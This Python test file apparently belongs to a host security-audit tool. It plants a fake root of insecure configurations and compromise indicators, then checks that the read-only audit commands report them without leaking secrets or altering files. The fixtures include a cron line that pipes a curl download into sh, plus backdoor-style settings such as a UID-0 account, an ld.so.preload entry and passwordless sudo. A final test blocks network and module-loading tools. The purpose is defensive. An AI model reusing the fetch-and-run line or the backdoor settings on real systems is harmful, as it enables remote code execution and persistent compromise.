"""First looks read the thing itself, on a root of files that were planted; they change nothing, and print no secret."""

import re
import shutil
import subprocess
from pathlib import Path

import pytest

from pipeline.retrieval.retriever import look_for
from tests.pipeline.sessions import knowledge

HASH = "$y$j9T$secret-hash"
PLANTED = {
    "etc/passwd": "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\nguest:x:9:9::/home/guest:/bin/sh\n",
    "etc/shadow": f"root:{HASH}:1::::::\nguest::1::::::\n",
    "etc/crontab": "# m h dom mon dow user command\n* * * * * root curl -s 203.0.113.9/x | sh\n",
    "etc/cron.d/backup": "0 3 * * * nobody /opt/backup.sh\n",
    "var/spool/cron/crontabs/guest": "@reboot /tmp/.x\n",
    "etc/postgresql/15/main/pg_hba.conf": "# TYPE DATABASE USER METHOD\nhost all all 0.0.0.0/0 trust\n",
    "etc/ssh/sshd_config": "#PermitRootLogin no\nPermitRootLogin yes\nPermitEmptyPasswords yes\n",
    "etc/pam.d/common-auth": "auth sufficient pam_unix.so nullok\n",
    "etc/sudoers": "root ALL=(ALL) ALL\n",
    "etc/sudoers.d/deploy": "deploy ALL=(ALL) NOPASSWD: ALL\n",
    "etc/exports": "/srv/data *(rw,no_root_squash)\n",
    "etc/samba/smb.conf": "[share]\n  path = /srv/share\n  guest ok = yes\n",
    "etc/audit/rules.d/own.rules": "## mine\n-w /etc/passwd -p wa -k identity\n",
    "etc/modprobe.d/own.conf": "blacklist sctp\n",
    "etc/ld.so.preload": "/usr/lib/hidden.so\n",
    "etc/rsyslog.d/own.conf": "*.* @@logs.example.org\n",
    "root/.rhosts": "other.example.org +\n",
    "root/.netrc": "machine ftp.example.org login me password topsecret\n",
    "home/guest/.ssh/authorized_keys": "ssh-ed25519 AAAAkey somebody@elsewhere\n",
    "home/guest/.profile": "true\n",
}
SHOWN = {
    "accounts": ["toor 0", "guest: no password"],
    "audit": ["-w /etc/passwd -p wa -k identity"],
    "dot_files": ["/home/guest/.profile"],
    "jobs": ["root curl -s 203.0.113.9/x | sh", "nobody /opt/backup.sh", "@reboot /tmp/.x"],
    "logs": ["@@logs.example.org"],
    "modules": ["blacklist sctp"],
    "passwords": [
        "guest: no password", "host all all 0.0.0.0/0 trust", "PermitEmptyPasswords yes", "nullok", "NOPASSWD: ALL",
    ],
    "preload": ["/usr/lib/hidden.so"],
    "shares": ["/srv/data *(rw,no_root_squash)", "guest ok = yes"],
    "sshd": ["PermitRootLogin yes"],
    "sudoers": ["deploy ALL=(ALL) NOPASSWD: ALL"],
    "trust_files": ["other.example.org +", "ssh-ed25519 AAAAkey", "machine ftp.example.org"],
}  # fmt: skip


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("root")
    for name, content in PLANTED.items():
        path = made / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    (made / "home/guest/.profile").chmod(0o666)
    return made


def seen(key: str, root: Path) -> str:
    """Run a look on the planted root, in place of the paths of this host."""
    command = re.sub(r"(?<![\w.])/(etc|root|home|var)\b", rf"{root}/\1", knowledge().looks[key].command)
    shell = shutil.which("sh")
    assert shell is not None
    done = subprocess.run([shell, "-c", command], capture_output=True, text=True, check=False, errors="replace")
    return done.stdout


@pytest.mark.parametrize("key", sorted(SHOWN))
def test_a_look_shows_what_stands_in_the_thing(key: str, root: Path) -> None:
    before = {path: (path.lstat().st_mtime_ns, path.lstat().st_size) for path in root.rglob("*")}
    shown = seen(key, root)
    for part in SHOWN[key]:
        assert part in shown
    for hidden in (HASH, "topsecret", "m h dom mon dow", "#PermitRootLogin", "## mine"):
        assert hidden not in shown
    assert {path: (path.lstat().st_mtime_ns, path.lstat().st_size) for path in root.rglob("*")} == before


@pytest.mark.parametrize(
    ("topic", "key"),
    [
        ("account.empty_password", "passwords"),
        ("account.trust_files", "trust_files"),
        ("account.uid0_not_root", "accounts"),
        ("audit.sudoers_changes", "sudoers"),
        ("file_permissions.cron_d", "jobs"),
        ("file_permissions.crontab", "jobs"),
        ("file_permissions.sshd_config", "sshd"),
        ("integrity.ima_policy", "ima"),
        ("integrity.restart_pending", "restarts"),
        ("ioc.ld_preload_env", "preload"),
        ("ioc.reverse_shell", "connections"),
        ("service.nfs_server", "shares"),
        ("service.squid", "services"),
        ("world_writable.root_path_relative", "path"),
    ],
)
def test_the_look_is_at_what_the_topic_is_about(topic: str, key: str) -> None:
    assert look_for(knowledge(), topic) == key


def test_no_look_starts_a_daemon_loads_a_module_or_fetches_anything() -> None:
    """A client of Docker wakes its daemon by the socket, iptables loads its module, dnf fetches what it lacks."""
    for look in knowledge().looks.values():
        for program, guard in (("docker ", "if pgrep -x dockerd"), ("iptables ", "if grep -qs . /proc/net/ip_tables")):
            for found in re.finditer(rf"(?:^|[;|{{] *|then |xargs -r ){program}", look.command):
                assert guard in look.command[: found.start()], look.command
        assert "dnf " not in look.command or "dnf -C " in look.command
        assert not re.search(r"(?:^|[;|] *|then )(?:podman|ldd|strace|sshd|modprobe|curl|wget) ", look.command)
